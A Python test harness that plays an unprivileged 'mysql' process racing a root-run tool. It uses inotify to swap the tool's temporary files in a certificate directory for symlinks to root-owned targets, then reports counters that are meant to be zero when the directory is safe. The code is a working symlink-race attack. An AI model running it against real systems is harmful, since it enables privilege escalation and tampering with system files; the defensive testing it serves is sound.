#!/usr/bin/env python3
"""Plays a process running as `mysql` on a node (a server exploit, a UDF)
that tries to make pxc, which writes as root, give it a system file: it
replaces every temporary file pxc creates in cert_dir
(".<name>.pxc-tmp-<random>") with a symbolic link to a root-owned file, the
moment inotify reports it (cycling through three moments: when the file
appears, when its writer closes it, when a reader closes it the second
time), and keeps trying to plant entries of its own there.

Started as root; it opens its output files, then drops to the account (its
groups included) before it touches cert_dir.

  symlink_racer.py --user mysql --dir /etc/mysql/certs --target A [--target B]
                   --out F.json [--seconds 900]

It prints its PID on stdout. Until SIGTERM (or --seconds) it races; then it
writes one line of JSON counters to --out:
  seen       temporary files it saw
  swapped    temporary files it replaced with a link (0 when cert_dir is safe)
  denied     swaps refused by the kernel (EACCES/EPERM)
  vanished   temporary files gone before it could act
  probes     attempts to create an entry of its own in cert_dir
  probe_ok   ... that succeeded (0 when cert_dir is safe)
  events     inotify events read
"""
import argparse
import ctypes
import errno
import grp
import json
import os
import pwd
import select
import signal
import struct
import time

IN_CREATE = 0x100
IN_CLOSE_WRITE = 0x8
IN_CLOSE_NOWRITE = 0x10
IN_NONBLOCK = 0o4000
IN_CLOEXEC = 0o2000000
MARK = ".pxc-tmp-"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--user", required=True)
    ap.add_argument("--dir", required=True)
    ap.add_argument("--target", action="append", required=True)
    ap.add_argument("--out", required=True)
    ap.add_argument("--seconds", type=float, default=900)
    a = ap.parse_args()

    out = open(a.out, "w")  # opened as root (the caller's directory), written at the end
    pw = pwd.getpwnam(a.user)
    groups = [g.gr_gid for g in grp.getgrall() if a.user in g.gr_mem]
    os.setgroups(sorted(set(groups + [pw.pw_gid])))
    os.setgid(pw.pw_gid)
    os.setuid(pw.pw_uid)
    assert os.geteuid() == pw.pw_uid and os.getuid() == pw.pw_uid

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    print(os.getpid(), flush=True)

    c = {"seen": 0, "swapped": 0, "denied": 0, "vanished": 0, "probes": 0, "probe_ok": 0,
         "events": 0, "user": a.user, "uid": os.getuid()}
    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    fd = libc.inotify_init1(IN_NONBLOCK | IN_CLOEXEC)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")
    wd = libc.inotify_add_watch(fd, a.dir.encode(), IN_CREATE | IN_CLOSE_WRITE | IN_CLOSE_NOWRITE)
    c["watch"] = wd >= 0  # False when the account cannot read cert_dir at all

    seen = {}  # name -> [moment, closes]
    done = set()
    n = 0

    def swap(name):
        nonlocal n
        n += 1
        t = os.path.join(a.dir, name)
        side = os.path.join(a.dir, ".racer-%d-%d" % (os.getpid(), n))
        try:
            st = os.lstat(t)
        except FileNotFoundError:
            c["vanished"] += 1
            done.add(name)
            return
        except PermissionError:
            c["denied"] += 1
            done.add(name)
            return
        if not (st.st_mode & 0o170000) == 0o100000:
            return
        try:
            os.symlink(a.target[n % len(a.target)], side)
            os.rename(side, t)
            c["swapped"] += 1
        except OSError as e:
            if e.errno in (errno.EACCES, errno.EPERM):
                c["denied"] += 1
            elif e.errno == errno.ENOENT:
                c["vanished"] += 1
            try:
                os.unlink(side)
            except OSError:
                pass
        done.add(name)

    deadline = time.monotonic() + a.seconds
    last_probe = 0.0
    while not stop and time.monotonic() < deadline:
        if wd >= 0:
            r, _, _ = select.select([fd], [], [], 0.05)
        else:
            r = []
            time.sleep(0.05)
        if r:
            try:
                buf = os.read(fd, 65536)
            except BlockingIOError:
                buf = b""
            off = 0
            while off + 16 <= len(buf):
                _, mask, _, ln = struct.unpack_from("iIII", buf, off)
                name = buf[off + 16:off + 16 + ln].split(b"\0", 1)[0].decode(errors="replace")
                off += 16 + ln
                c["events"] += 1
                if MARK not in name or name in done:
                    continue
                if name not in seen:
                    seen[name] = [len(seen) % 3, 0]
                    c["seen"] += 1
                moment, closes = seen[name]
                if mask & IN_CLOSE_NOWRITE:
                    seen[name][1] = closes = closes + 1
                if ((moment == 0 and mask & IN_CREATE) or
                        (moment == 1 and mask & IN_CLOSE_WRITE) or
                        (moment == 2 and closes >= 2) or
                        (moment == 1 and closes >= 1)):  # sudo path: no close-write before mv
                    swap(name)
        now = time.monotonic()
        if now - last_probe > 0.2:
            last_probe = now
            c["probes"] += 1
            probe = os.path.join(a.dir, ".racer-probe-%d" % os.getpid())
            try:
                os.symlink(a.target[0], probe)
                c["probe_ok"] += 1
                os.unlink(probe)
            except OSError:
                pass
    c["stopped_by"] = "signal" if stop else "time"
    out.write(json.dumps(c, sort_keys=True) + "\n")
    out.close()


if __name__ == "__main__":
    main()
